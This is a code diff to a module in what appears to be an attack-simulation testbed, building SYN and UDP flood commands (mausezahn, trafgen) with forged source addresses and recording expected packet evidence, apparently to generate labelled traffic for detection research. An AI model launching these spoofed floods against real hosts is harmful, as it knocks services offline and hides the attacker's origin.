@@ -2,7 +2,7 @@
 
 import struct
 
-from testbed.attacks.material import ANYWHERE, forged, frames, maybe, others, user_agent, words
+from testbed.attacks.material import ANYWHERE, forged, frames, hardware_address, maybe, others, user_agent, words
 from testbed.attacks.web import item, root
 from testbed.catalogue import Assault, attack
 from testbed.conventions import website
@@ -44,32 +44,22 @@ def nping_syn(c):
                          source, victim(c)))
 
 
-@attack("dos_syn_flood", technique=NETWORK, tool="mausezahn", origins=RAW, packages=("netsniff-ng",), seconds=20)
+@attack("dos_syn_flood", technique=NETWORK, tool="mausezahn", origins=RAW, packages=("netsniff-ng", "arping"), seconds=20)
 def mausezahn_syn(c):
     source, target, port = forged(c, 1)[0], victim(c), c.choose(*TCP_PORTS)
-    return Assault(f"mausezahn {c.host.device} {gateway(target)} -A {source} -B {target} -t tcp 'flags=syn,dp={port},"
+    return Assault(f"mausezahn {c.host.device} -b {hardware_address(c, target)} -A {source} -B {target} -t tcp 'flags=syn,dp={port},"
                    f"sp=1024-{c.between(1400, 2400)}' -c 1 -d {c.between(500, 2500)}usec -q",
                    evidence=frames(c, "tcp", [target], [port], [source]), variant="forged address")
 
 
-@attack("dos_syn_flood", technique=NETWORK, tool="trafgen", origins=RAW, packages=("netsniff-ng",), seconds=20)
+@attack("dos_syn_flood", technique=NETWORK, tool="trafgen", origins=RAW, packages=("netsniff-ng", "arping"), seconds=20)
 def trafgen_syn(c):
     source, target, port = forged(c, 1)[0], victim(c), c.choose(*TCP_PORTS)
     packet = (f"{{ eth(da=%s), ipv4(saddr={source}, daddr={target}, ttl={c.between(40, 128)}, id=drnd()),"
-              f" tcp(sp=drnd(1024, 65535), dp={port}, syn, seq=drnd(), win={c.between(500, 65535)}) }}")
-    return Assault(f"printf '{packet}\\n' $({hardware_address(target)}) > packet.cfg; trafgen --cpp -P 1 -q"
+              f" tcp(sp=drnd(), dp={port}, syn, seq=drnd(), win={c.between(500, 65535)}) }}")
+    return Assault(f"printf '{packet}\\n' {hardware_address(c, target)} > packet.cfg; trafgen --cpp -P 1 -q"
                    f" -n {c.between(700, 1800)} -t {c.between(500, 2500)}us -o {c.host.device} -c packet.cfg",
                    evidence=frames(c, "tcp", [target], [port], [source]), variant="forged address")
-
-
-def hardware_address(target: str) -> str:
-    """A command that gives the hardware address that leads to a target."""
-    hop = f"$(ip -o route get {target} | sed -n 's/.* via \\([0-9.]*\\).*/\\1/p' | grep . || echo {target})"
-    return f"hop={hop}; ping -q -c1 -W1 $hop >/dev/null; ip neigh show $hop | awk '{{ print $5 }}'"
-
-
-def gateway(target: str) -> str:
-    return f"-b $({hardware_address(target)})"
 
 
 @attack("dos_tcp_flood_ack", technique=NETWORK, tool="hping3", origins=RAW, packages=("hping3",), seconds=15)
@@ -104,10 +94,10 @@ def nping_flood(c):
                    f" -c {rounds} {victim(c)}")
 
 
-@attack("dos_udp_flood", technique=NETWORK, tool="mausezahn", origins=RAW, packages=("netsniff-ng",), seconds=15)
+@attack("dos_udp_flood", technique=NETWORK, tool="mausezahn", origins=RAW, packages=("netsniff-ng", "arping"), seconds=15)
 def mausezahn_udp(c):
     target, port = victim(c), c.choose(53, 123, 161, 1900, 5060, c.between(1024, 60000))
-    return Assault(f"mausezahn {c.host.device} {gateway(target)} -A {c.host.address} -B {target} -t udp 'dp={port},"
+    return Assault(f"mausezahn {c.host.device} -b {hardware_address(c, target)} -A {c.host.address} -B {target} -t udp 'dp={port},"
                    f"sp={c.between(1024, 60000)}' -p {c.between(10, 1200)} -c {c.between(500, 1500)}"
                    f" -d {c.between(500, 3000)}usec -q", evidence=frames(c, "udp", [target], [port]))
 
